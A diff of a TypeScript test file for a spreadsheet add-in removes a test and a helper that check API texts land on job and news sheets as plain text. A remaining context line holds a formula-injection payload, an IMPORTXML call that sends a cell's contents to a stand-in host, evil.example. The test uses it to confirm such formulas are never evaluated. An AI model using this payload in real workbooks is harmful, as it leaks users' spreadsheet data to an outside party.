@@ -40,33 +40,6 @@ describe("A text from the API is written as text", () => {
     expect(city).toMatch(/x… \[cut]$/);
   });
 
-  it("from job posts and news, on their own sheets", async () => {
-    for (const [kind, field, header] of [
-      ["jobs", "title", "Title"],
-      ["news", "title", "Headline"],
-    ] as const) {
-      const addin = await openAddin({ column: ["Website", company] });
-      let next = 0;
-      addin.spoil = replaced({
-        [field]: () => SHAPE_SHIFTING_TEXTS[next++ % SHAPE_SHIFTING_TEXTS.length] ?? "",
-      });
-
-      const done = await addin.run({ kind, limit: 20 });
-
-      const sheet = addin.workbook.sheetNamed(done.sheetName)!;
-      const shown = addin.rows(sheet).map((row) => row[header]);
-      const count = shown.length;
-      expect(count).toBeGreaterThan(10);
-      // Each post got the next text, and the sheet may order its rows freely.
-      const given = Array.from(
-        { length: count },
-        (_, post) => SHAPE_SHIFTING_TEXTS[post % SHAPE_SHIFTING_TEXTS.length] ?? "",
-      );
-      expect(countsOf(shown)).toEqual(countsOf(given));
-      expect(formulasIn(addin)).toEqual([]);
-    }
-  });
-
   it("from a formula, and never evaluated", async () => {
     const addin = await openAddin();
     addin.spoil = replaced({ title: '=IMPORTXML("https://evil.example/?"&A1,"//a")' });
@@ -154,10 +127,4 @@ function replaced(fields: Record<string, string | (() => string)>): (reply: Demo
     });
     return { ...reply, body: JSON.stringify(body) };
   };
-}
-
-function countsOf(values: readonly unknown[]): Map<unknown, number> {
-  const counts = new Map<unknown, number>();
-  for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
-  return counts;
 }
